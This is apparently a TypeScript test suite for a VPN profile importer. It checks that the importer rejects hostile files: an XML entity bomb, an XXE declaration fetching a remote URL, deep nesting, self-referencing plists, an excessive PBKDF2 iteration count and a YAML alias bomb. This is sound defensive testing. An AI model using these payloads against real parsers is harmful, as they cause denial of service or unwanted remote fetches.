import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { Secret } from '../../../../src-main/domain/profile/secret.ts'
import { settingsIn } from '../../../support/formats/settings-in.ts'

const octets = (text: string): Uint8Array => new TextEncoder().encode(text)
const read = (content: Uint8Array | string, name = 'file') =>
  settingsIn([{ name, octets: typeof content === 'string' ? octets(content) : content }])[0]?.read
const codeOf = (content: Uint8Array | string, name?: string): string => {
  const found = read(content, name)
  return found === undefined ? 'nothing' : found.ok ? 'read' : found.fault.code
}
const PLIST = '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">'
const payload = (inside: string): string =>
  `<?xml version="1.0"?>${PLIST}<plist version="1.0"><dict><key>PayloadType</key><string>com.apple.vpn.managed</string>` +
  `<key>VPNType</key><string>L2TP</string>${inside}</dict></plist>`

describe('XML of a stranger', () => {
  it('is refused where it declares entities, wherever it does', () => {
    const bomb = '<!DOCTYPE plist [<!ENTITY a "horse"><!ENTITY b "&a;&a;">]><plist><dict/></plist>'
    expect(codeOf(`<?xml version="1.0"?>${bomb}`)).toBe('entities')
    expect(codeOf('<!DOCTYPE VPNProfile [<!ELEMENT VPNProfile ANY>]><VPNProfile/>')).toBe('entities')
    expect(
      codeOf(`\ufeff<!DOCTYPE x [<!ENTITY % a SYSTEM "http://198.51.100.3/x">%a;]><VPNProfile></VPNProfile>`),
    ).toBe('entities')
  })

  it('is refused where it is nested without end, and where it never closes', () => {
    expect(codeOf(payload(`<key>A</key>${'<array>'.repeat(20_000)}${'</array>'.repeat(20_000)}`))).toBe('too-deep')
    expect(codeOf(payload('<key>A</key><dict>').replace('</plist>', ''))).toBe('syntax')
  })

  it('may have Apple’s own document type', () => {
    const whole = payload('<key>PPP</key><dict><key>CommRemoteAddress</key><string>vpn.example.net</string></dict>')
    const found = read(whole)
    expect(found?.ok && found.value.entries[0]?.profile.gateway).toBe('vpn.example.net')
  })
})

/** A binary plist of these objects, the first the root, with references of one octet. */
function binary(objects: readonly (readonly number[])[]): Uint8Array {
  const offsets: number[] = []
  const body: number[] = []
  for (const object of objects) {
    offsets.push(8 + body.length)
    body.push(...object)
  }
  const table = 8 + body.length
  const number = (value: number): number[] => [0, 0, 0, 0, 0, 0, value >> 8, value & 255]
  const wide = offsets.flatMap((offset) => [offset >> 8, offset & 255])
  const trailer = [0, 0, 0, 0, 0, 0, 2, 1, ...number(objects.length), ...number(0), ...number(table)]
  return Uint8Array.from([...octets('bplist00'), ...body, ...wide, ...trailer])
}

describe('a binary plist', () => {
  it('that holds itself, at once or by a detour, is refused', () => {
    expect(codeOf(binary([[0xa1, 0]]))).toBe('too-deep')
    expect(
      codeOf(
        binary([
          [0xa1, 1],
          [0xa1, 2],
          [0xd1, 3, 0],
          [0x51, 0x61],
        ]),
      ),
    ).toBe('too-deep')
  })

  it('whose lists share their members ten times over and over is read once each', () => {
    const layers = Array.from({ length: 40 }, (_none, i) => [0xaa, ...Array.from({ length: 10 }, () => i + 1)])
    expect(codeOf(binary([...layers, [0x51, 0x61]]))).toBe('not-vpn')
  })

  it('with any octets is answered', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (tail) => {
        expect(codeOf(Uint8Array.from([...octets('bplist00'), ...tail]))).not.toBe('nothing')
      }),
    )
  })
})

describe('a signed profile', () => {
  it('with any octets behind its beginning is answered', () => {
    const head = [0x30, 0x80, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02]
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (tail) => {
        expect(codeOf(Uint8Array.from([...head, ...tail]))).not.toBe('nothing')
      }),
    )
    expect(
      codeOf(Uint8Array.from([...head, ...Array.from({ length: 100_000 }, (_none, i) => (i % 2 ? 0x80 : 0x30))])),
    ).toBe('syntax')
  })
})

describe('an encrypted ONC', () => {
  const sealed = (iterations: number): string =>
    JSON.stringify({
      ...{ Type: 'EncryptedConfiguration', Cipher: 'AES256', HMACMethod: 'SHA1', Stretch: 'PBKDF2', Salt: 'AAECAw==' },
      ...{
        IV: 'AAECAwQFBgcICQoLDA0ODw==',
        Ciphertext: 'AAECAwQFBgcICQoLDA0ODw==',
        HMAC: 'AAAA',
        Iterations: iterations,
      },
    })

  it('asks for its passphrase, and tells a wrong one', () => {
    expect(codeOf(sealed(1000))).toBe('passphrase')
    const [file] = settingsIn([{ name: 'a', octets: octets(sealed(1000)) }], { passphrase: new Secret('wrong') })
    expect(file?.read.ok === false && file.read.fault.code).toBe('wrong-passphrase')
  })

  it('that asks for two thousand million rounds is not opened', () => {
    const [file] = settingsIn([{ name: 'a', octets: octets(sealed(2 ** 31)) }], { passphrase: new Secret('x') })
    expect(file?.read.ok === false && file.read.fault.code).toBe('too-slow')
    expect(codeOf(sealed(Number.NaN))).toBe('syntax')
  })
})

describe('a list', () => {
  it('of a hundred thousand rows is one to split', () => {
    const rows = Array.from({ length: 100_000 }, (_none, i) => `n${i},vpn${i}.example.net,user${i}`).join('\n')
    expect(codeOf(`name,gateway,user\n${rows}`)).toBe('too-many-entries')
  })

  it.each([
    ['Name;Сервер;Пользователь;Пароль', 'windows-1251'],
    ['名称\t服务器\t用户名\t密码', 'utf-8'],
    ['Nom;Serveur;Utilisateur;Mot de passe', 'utf-8'],
    ['Nombre|Servidor|Usuario|Contraseña', 'utf-8'],
  ])('headed %s is understood', (heading, _encoding) => {
    const separator = /[;\t|]/.exec(heading)?.[0] ?? ','
    const row = ['Office', 'vpn.example.net', 'anna', 'pw-anna'].join(separator)
    const found = read(`${heading}\r\n${row}\r\n`)
    const [entry] = found?.ok ? found.value.entries : []
    expect(entry?.profile).toMatchObject({ name: 'Office', gateway: 'vpn.example.net', user: 'anna' })
    expect(entry?.secrets.password?.reveal()).toBe('pw-anna')
  })

  it('whose columns nobody knows is read as a person says', () => {
    const text = 'aaa,bbb,ccc\nOffice,vpn,anna\nBranch,vpn2,ben\n'
    expect(codeOf(text)).toBe('columns')
    const [file] = settingsIn([{ name: 'a.csv', octets: octets(text) }], { columns: ['name', 'gateway', 'user'] })
    const names = file?.read.ok ? file.read.value.entries.map(({ profile }) => profile.name) : []
    expect(names).toEqual(['aaa', 'Office', 'Branch'])
  })
})

describe('YAML of a stranger', () => {
  it('is not expanded, and not followed to the end of the stack', () => {
    const bomb = `a: &a [x,x]\n${Array.from({ length: 30 }, (_none, i) => `b${i}: &b${i} [*${i ? `b${i - 1}` : 'a'},*${i ? `b${i - 1}` : 'a'}]`).join('\n')}`
    expect(codeOf(`nm-devices:\n${bomb.replaceAll(/^/gm, ' ')}`)).toBe('too-deep')
    expect(codeOf(`nm-devices: ${'['.repeat(20_000)}`)).toBe('too-deep')
    expect(codeOf(`nm-devices:\n${'- '.repeat(30_000)}`)).not.toBe('nothing')
  })
})
